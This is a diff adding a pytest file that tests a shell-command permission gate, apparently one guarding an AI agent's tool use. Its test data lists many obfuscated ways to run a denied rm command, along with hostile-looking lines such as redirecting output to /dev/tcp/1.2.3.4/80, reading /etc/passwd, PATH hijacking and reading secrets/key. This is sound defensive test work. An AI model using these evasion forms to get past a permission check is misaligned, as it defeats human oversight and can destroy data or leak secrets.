@@ -1,0 +1,164 @@
+"""Commands: what is allowed, what is asked, and what a rule that denies finds."""
+
+import pytest
+from tests.unit.gate.sayings import PLACE, policy, says
+
+from footplate.domain.permissions import Outcome
+from footplate.gate.commands import judge
+
+DENY_RM = policy("Bash", deny=("Bash(rm *)",))
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "rm x",
+        "rm",
+        "env rm x",
+        "env A=1 rm x",
+        "timeout 5 rm x",
+        "sh -c 'rm x'",
+        "bash -c 'env rm x'",
+        "\\rm x",
+        'r""m x',
+        "/bin/rm x",
+        "sudo -u bob rm x",
+        "nice -n 5 rm x",
+        "xargs -n1 rm",
+        "find . -exec rm {} +",
+        "ls && rm x",
+        "ls; (cd a && rm x)",
+        "echo $(rm x)",
+        "eval rm x",
+        "trap 'rm x' EXIT",
+        "f() { rm x; }",
+        "git -c alias.x='!rm x' x",
+        "RM x",
+        "for i in 1; do rm $i; done",
+        "rm x )",
+    ],
+)
+def test_denied_where_it_can_be_proven(command: str) -> None:
+    decision = judge(DENY_RM, command, PLACE).decision
+    assert (decision.outcome, decision.rule) == (Outcome.DENY, "Bash(rm *)")
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "$(echo rm) x",
+        "x=rm; $x y",
+        "{rm,x}",
+        "/bin/r? x",
+        "echo rm x | sh",
+        "python -c 'import os'",
+        "sh <<E\nrm x\nE",
+        "rm\u00a0x",
+        "ls\rrm x",
+        "cp /bin/rm x",
+        "ln -s /bin/rm x",
+        "PATH=evil:$PATH ls",
+        "awk 'BEGIN{system(\"rm x\")}'",
+        "make -f -",
+        "a\0b",
+        "echo " + "x" * 10_001,
+        "(" * 200 + "ls" + ")" * 200,
+    ],
+)
+def test_asked_where_it_cannot(command: str) -> None:
+    assert says(DENY_RM, command) == "ask"
+
+
+@pytest.mark.parametrize(
+    "command", ["ls", "timeout 5 pytest", "echo $(date)", "cat a | sort > b", "python x.py", "A=1", "$X"]
+)
+def test_allowed_by_a_rule_for_everything(command: str) -> None:
+    assert says(policy("Bash"), command) == "allow"
+
+
+@pytest.mark.parametrize("command", ["rm -fr x", "rm -r -f x", "rm x -rf", "rm --recursive --force x", "rm -rfv x"])
+def test_options_have_no_order(command: str) -> None:
+    assert says(policy("Bash", deny=("Bash(rm -rf *)",)), command) == "deny"
+    assert says(policy("Bash", deny=("Bash(rm -rf *)",)), "rm -r x") == "allow"
+
+
+@pytest.mark.parametrize("command", ["git -C . push", "git --no-pager push", "git 'push' origin", "git -c a=b push"])
+def test_what_stands_before_a_subcommand_hides_nothing(command: str) -> None:
+    assert says(policy("Bash", deny=("Bash(git push *)",)), command) == "deny"
+
+
+def test_every_part_must_be_allowed() -> None:
+    rules = policy("Bash(make *)", "Bash(npm test *)")
+    assert says(rules, "make && npm test") == "allow"
+    assert says(rules, "make && npm test; cargo build") == "ask"
+    assert says(rules, "if make; then npm test; fi") == "allow"
+    assert says(rules, "make $(npm test)") == "ask"
+    assert says(rules, "make &&") == "ask"
+
+
+def test_one_word_stays_one() -> None:
+    rules = policy("Bash(git log *)", "Bash(npm run test *)")
+    assert says(rules, "'git log' x") == "ask"
+    assert says(rules, "npm 'run test' x") == "ask"
+
+
+def test_wrappers_are_asked_unless_a_rule_names_what_they_run() -> None:
+    assert says(policy("Bash(pytest *)"), "timeout 60 pytest -q") == "ask"
+    assert says(policy("Bash(timeout *)"), "timeout 60 pytest -q") == "ask"
+    assert says(policy("Bash(timeout 60 pytest *)"), "timeout 60 pytest -q") == "allow"
+    assert says(policy("Bash(timeout 60 pytest *)"), "timeout 60 pytest -p evil") == "ask"
+    assert says(policy("Bash(uv run pytest *)"), "uv run pytest -q") == "allow"
+    assert says(policy("Bash(bash -c *)"), "bash -c 'make'") == "ask"
+
+
+def test_the_whole_text_as_a_rule_is_obeyed() -> None:
+    rules = policy("Bash(find . -name x -exec wc -l {} +)", "Bash(date *)")
+    assert says(rules, "find . -name x -exec wc -l {} +") == "allow"
+    assert says(rules, "find . -name x -exec rm -l {} +") == "ask"
+
+
+def test_redirects() -> None:
+    rules = policy("Bash(make *)", "Edit(build/**)", deny=("Edit(build/keep/**)",))
+    assert says(rules, "make > build/log 2>&1") == "allow"
+    assert says(rules, "make 2>/dev/null >&2") == "allow"
+    assert says(rules, "make > log") == "ask"
+    assert says(rules, "make > build/keep/log") == "deny"
+    assert says(rules, "make > build/../log") == "ask"
+    assert says(rules, "make > $X") == "ask"
+    assert says(rules, "make > build/.git/hooks/x") == "ask"
+    assert says(rules, "make < /etc/passwd") == "ask"
+    assert says(rules, "make >/dev/tcp/1.2.3.4/80") == "ask"
+
+
+def test_words_behind_a_redirect_are_arguments() -> None:
+    """The grammar takes them for further targets."""
+    assert says(policy("Bash(git *)"), "git log >/dev/null --output=x") == "ask"
+    assert says(DENY_RM, ">/dev/null rm x") == "deny"
+
+
+def test_reading_needs_no_rule_inside_the_workspace() -> None:
+    for command in ("ls", "cat a b", "git status", "grep -r x src | head -5", "cd src && ls", "find . -name '*.py'"):
+        assert says(policy(), command) == "allow", command
+    for command in ("cat /etc/passwd", "cat ../x", "ls ~", "cd ..", "cat $X", "/bin/ls", "cd src && git status"):
+        assert says(policy(), command) == "ask", command
+
+
+def test_files_that_may_not_be_read() -> None:
+    rules = policy("Bash", deny=("Read(secrets/**)",))
+    assert says(rules, "cat secrets/key") == "deny"
+    assert says(rules, "cd secrets && cat key") == "deny"
+    assert says(rules, "echo a > secrets/key") == "deny"
+    assert says(rules, "mytool secrets/key") == "ask"
+    assert says(rules, "cat s*/key") == "ask"
+    assert says(rules, "cat src/*.py") == "allow"
+
+
+def test_a_decision_says_which_rule_and_why() -> None:
+    verdict = judge(policy("Bash(ls *)", deny=("Bash(rm *)",)), "ls | env rm x", PLACE)
+    assert [(part.kind, part.text, part.decision.outcome.value) for part in verdict.parts] == [
+        ("command", "ls", "allow"),
+        ("command", "env rm x", "deny"),
+    ]
+    assert verdict.parts[1].via == ("env",)
+    assert verdict.parts[1].runs == ("rm x",)
+    assert verdict.decision.reason == "Bash(rm *) is for `rm x`, which env runs."
